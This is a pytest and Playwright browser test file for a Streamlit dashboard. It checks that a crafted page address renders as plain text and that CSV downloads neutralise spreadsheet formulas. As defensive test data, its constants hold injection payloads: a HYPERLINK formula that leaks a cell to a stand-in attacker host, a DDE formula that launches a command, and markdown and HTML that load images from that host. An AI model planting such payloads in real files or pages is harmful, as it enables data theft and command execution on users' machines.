"""What users type, in a real browser (Debian's Chromium, Playwright, the app served as `make run`
serves it): a crafted page address shows as plain text, fetching nothing from elsewhere, and CSV
downloads read back with every formula neutralised (OWASP's "CSV Injection")."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import expect

from conftest import ROOT, copy_of_store
from streamlit_server import READY, launched_chromium, pressed_download, streamlit_server

pytestmark = pytest.mark.browser
CRAFTED = ("[sign in again here](https://evil.example)![x](https://evil.example/x.png)"
           "<b>x</b><img src=https://evil.example/y.png>")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
COMMAND = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def chromium():
    with launched_chromium() as browser:
        yield browser


@pytest.fixture(scope="module")
def store_copy(demo_db, tmp_path_factory) -> Path:
    return copy_of_store(demo_db, tmp_path_factory.mktemp("escaping"))


@pytest.fixture(scope="module")
def analyst(store_copy, tmp_path_factory):
    audit_log = tmp_path_factory.mktemp("escaping-audit") / "audit.jsonl"
    with streamlit_server(ROOT / "app.py", store_copy,
                          env={"FSDASH_DEV_ROLE": "analyst", "FSDASH_AUDIT_LOG": str(audit_log)}
                          ) as (_, url):
        yield url


def _open(browser, url: str, requests: list | None = None):
    page = browser.new_page(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
    if requests is not None:
        page.on("request", lambda request: requests.append(request.url))
    page.goto(url)
    page.wait_for_selector(READY, timeout=120_000)
    expect(page.get_by_role("heading", level=1)).to_be_visible(timeout=90_000)
    page.wait_for_selector(READY, timeout=180_000)
    return page


def _download_csv(page, button) -> tuple[str, list[list[str]], str]:
    """Press a CSV download button: (file name, rows as a spreadsheet would split them, text)."""
    download = pressed_download(page, button)
    text = Path(download.path()).read_text(encoding="utf-8")
    return download.suggested_filename, list(csv.reader(io.StringIO(text))), text


def test_a_crafted_page_address_shows_as_plain_text(analyst, chromium):
    _open(chromium, analyst).close()     # a fresh server's first session, as after a restart
    requests: list[str] = []
    page = _open(chromium, f"{analyst}/?as_at=2026-10&area={quote(CRAFTED)}", requests)
    warning = page.locator('[data-testid="stAlertContentWarning"]',
                           has_text="The page address asked for")
    expect(warning).to_be_visible(timeout=60_000)
    said = warning.inner_text().replace("\u2060", "")   # the word joiners that unlink addresses
    assert f"area “{CRAFTED[:60]}…”, which is not one of the choices" in said, said
    page.wait_for_timeout(1_000)         # time for any image the page asked for
    assert warning.locator("a, img, b").count() == 0, warning.inner_html()
    assert page.locator('a[href*="evil"], img[src*="evil"]').count() == 0
    # Streamlit fetches the navigation's Material icons from Google's font host; nothing else
    # may leave this machine
    elsewhere = [u for u in requests
                 if urlsplit(u).hostname not in ("127.0.0.1", None, "fonts.gstatic.com")]
    assert elsewhere == [], elsewhere
    page.close()


def _spoiled_s47(demo_db: Path, out: Path) -> Path:
    """The demo's section 47 enquiries with formulas in a coded field of two rows (rows 4 and 5
    as a spreadsheet numbers them), so the load sets those rows aside."""
    with (demo_db.parent / "extracts" / "cin_s47.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))
    column = rows[0].index("ICPCnotRequired")
    rows[3][column], rows[4][column] = HYPERLINK, COMMAND
    with out.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return out


def _csv_named(page, file_name: str) -> tuple[list[list[str]], str]:
    """The page's CSV download called ``file_name`` (each "Download this data (CSV)" pressed in
    turn until it comes), as rows and text."""
    buttons = page.get_by_role("button", name="Download this data (CSV)")
    names = []
    for index in range(buttons.count()):
        name, rows, text = _download_csv(page, buttons.nth(index))
        if name == file_name:
            return rows, text
        names.append(name)
    raise AssertionError(f"no {file_name} among the page's downloads {names}")


def test_the_rows_set_aside_download_neutralises_formulas(analyst, chromium, demo_db,
                                                          tmp_path):
    page = _open(chromium, f"{analyst}/data")
    spoiled = _spoiled_s47(demo_db, tmp_path / "cin_s47.csv")
    page.get_by_test_id("stFileUploaderDropzoneInput").set_input_files([str(spoiled)])
    expect(page.get_by_role("button", name="Load", exact=True)).to_be_visible(timeout=60_000)
    page.wait_for_selector(READY, timeout=120_000)
    page.get_by_role("button", name="Load", exact=True).click()
    expect(page.locator('[data-testid="stAlertContentSuccess"]')).to_be_visible(timeout=420_000)
    page.wait_for_selector(READY, timeout=120_000)
    rows, text = _csv_named(page, "set-aside-rows.csv")
    values = {row[1]: row[3] for row in rows[1:] if row[0] == "cin_s47.csv"}
    assert values["4"] == "'" + HYPERLINK and values["5"] == "'" + COMMAND, values
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "@", "\t", "\r"))], cells
    assert '\n"cin_s47.csv",4,"ICPCnotRequired",' in text    # numbers stay numbers
    page.close()


def test_a_chart_blocks_csv_keeps_its_numbers(analyst, chromium):
    page = _open(chromium, f"{analyst}/children-in-care?as_at=2026-10&area=all")
    heading = page.get_by_role("heading", name="By district")
    expect(heading).to_be_visible(timeout=90_000)
    page.wait_for_selector(READY, timeout=180_000)     # every block drawn, not just the first
    button = page.get_by_role("button", name="Download this data (CSV)")
    expect(button.first).to_be_visible(timeout=60_000)
    names = []
    for index in range(button.count()):
        name, rows, _ = _download_csv(page, button.nth(index))
        names.append(name)
        if rows[0][:2] == ["Category", "A year earlier"]:
            break
    else:
        raise AssertionError(f"no breakdown's CSV among {names}")
    changes = [row[3] for row in rows[1:]]
    assert any(c.startswith("-") for c in changes), changes   # a fall, as the number it is
    assert not [c for c in changes if c.startswith("'")], changes
    page.close()
